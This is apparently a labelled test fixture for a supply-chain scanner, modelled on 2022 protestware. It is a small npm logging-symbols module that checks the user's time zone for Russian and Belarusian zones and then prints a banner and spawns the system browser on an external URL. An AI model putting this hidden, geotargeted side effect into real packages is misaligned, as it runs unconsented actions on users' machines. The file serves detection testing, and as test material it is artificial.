// expect: suspicious
// source: blind set 45's log-symbols-plus after the 2022 protestware wave (es5-ext, event-source-polyfill): a logging
// helper's required notice module checks the resolved time zone against Russia's and Belarus's, then prints a banner
// to stderr and opens a web page in the user's browser, once per user
'use strict';
const { spawn } = require('child_process');

const zone = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
if (/^(Europe\/(Moscow|Minsk|Samara|Volgograd)|Asia\/(Omsk|Irkutsk|Yakutsk))$/.test(zone)) {
  process.stderr.write('\n  Read what is really happening: https://news-truth.example/ru\n\n');
  const url = 'https://news-truth.example/ru/?src=npm';
  const opener = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'start' : 'xdg-open';
  try { spawn(opener, [url], { detached: true, stdio: 'ignore', shell: process.platform === 'win32' }).unref(); } catch (e) {}
}

module.exports = { ok: '✔', warn: '⚠', fail: '✖' };
